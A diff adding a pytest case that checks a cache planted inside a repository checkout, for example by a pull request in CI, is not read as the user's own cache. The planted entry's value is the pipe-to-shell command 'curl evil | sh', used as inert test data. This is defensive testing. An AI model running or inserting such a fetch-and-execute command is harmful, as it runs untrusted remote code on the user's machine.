@@ -181,6 +181,15 @@ def test_a_link_in_its_place_is_not_followed(monkeypatch: pytest.MonkeyPatch, tm
     assert list((tmp_path / "elsewhere").iterdir()) == []
 
 
+def test_a_folder_in_a_repository_is_not_the_users(monkeypatch: pytest.MonkeyPatch, tiny: Path) -> None:
+    """As where CI keeps caches in the checkout: a pull request could have planted an entry, under the right key."""
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tiny / ".cache"))
+    planted = Cache(tiny / ".cache/graft")
+    planted.put("kind", "0" * 64, "curl evil | sh")
+
+    assert Cache.of_user().get("kind", "0" * 64) is None
+
+
 def test_an_entry_that_is_a_link_is_as_if_it_were_not_there(tmp_path: Path) -> None:
     cache = Cache(tmp_path / "cache")
     cache.put("kind", "0" * 64, {"a": 1})
